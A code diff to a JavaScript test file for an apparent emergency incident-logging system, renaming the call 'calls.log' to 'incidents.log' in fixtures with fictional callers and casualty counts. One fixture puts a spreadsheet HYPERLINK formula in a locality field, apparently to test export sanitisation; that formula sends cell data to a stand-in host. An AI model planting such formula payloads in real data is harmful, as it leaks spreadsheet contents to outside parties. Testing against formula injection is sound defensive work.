@@ -39,7 +39,7 @@ async function postWithIncidents() {
   const t = await openTestCore({ files: files.files });
   cores.push(t);
   // Position known: an operator pasted coordinates.
-  const known = await t.call('calls.log', intake({
+  const known = await t.call('incidents.log', intake({
     type: 'building_collapse', receivedAt: T0,
     location: { district: 'jableh', locality: 'مركز جبلة', coordinates: { lat: 35.3609, lon: 35.9251 } },
     reported: { trapped: 4, injured: 2, dead: 1 },
@@ -48,18 +48,18 @@ async function postWithIncidents() {
   await t.call('timeline.addNote', { incidentId: known.incidentId, text: 'Dead: Khaled Mansour, Fatima Issa' });
   // A village of the region's list, named in Arabic without diacritics.
   t.clock.advance(MINUTE);
-  const village = await t.call('calls.log', intake({
+  const village = await t.call('incidents.log', intake({
     type: 'fire', receivedAt: T0 + MINUTE, callerName: 'Umm Ali', callerPhone: '+963 944 555 666',
     location: { district: 'latakia', subdistrict: 'rabia', locality: 'كباني' },
   }));
   // Only a district (a village not on the list, written as a spreadsheet formula).
   t.clock.advance(MINUTE);
-  const district = await t.call('calls.log', intake({
+  const district = await t.call('incidents.log', intake({
     type: 'flood', receivedAt: T0 + 2 * MINUTE, location: { district: 'al-haffah', locality: '=HYPERLINK("http://x.example/?"&A1,"click")' },
   }));
   // A second report of the first scene, cancelled as its duplicate: not counted twice.
   t.clock.advance(MINUTE);
-  const twin = await t.call('calls.log', intake({ receivedAt: T0 + 3 * MINUTE, reported: { trapped: 4, injured: 2, dead: 1 } }));
+  const twin = await t.call('incidents.log', intake({ receivedAt: T0 + 3 * MINUTE, reported: { trapped: 4, injured: 2, dead: 1 } }));
   await t.call('incidents.setStatus', { id: twin.incidentId, status: 'cancelled', cancelReason: 'duplicate' });
   return { t, files, ids: [known.incidentId, village.incidentId, district.incidentId] };
 }
@@ -192,7 +192,7 @@ describe('GeoJSON report', () => {
   it('pages through many incidents received at the same moment without losing or repeating one', async () => {
     const t = await openTestCore();
     cores.push(t);
-    const { incidentId } = await t.call('calls.log', intake());
+    const { incidentId } = await t.call('incidents.log', intake());
     const columns = 'type, priority, status, district, subdistrict, locality, locality_key, lat, lon, trapped, injured, dead, received_at, status_at, created_by';
     await t.core.store.write(null, async ({ tx }) => {
       for (let i = 0; i < 1234; i++) {
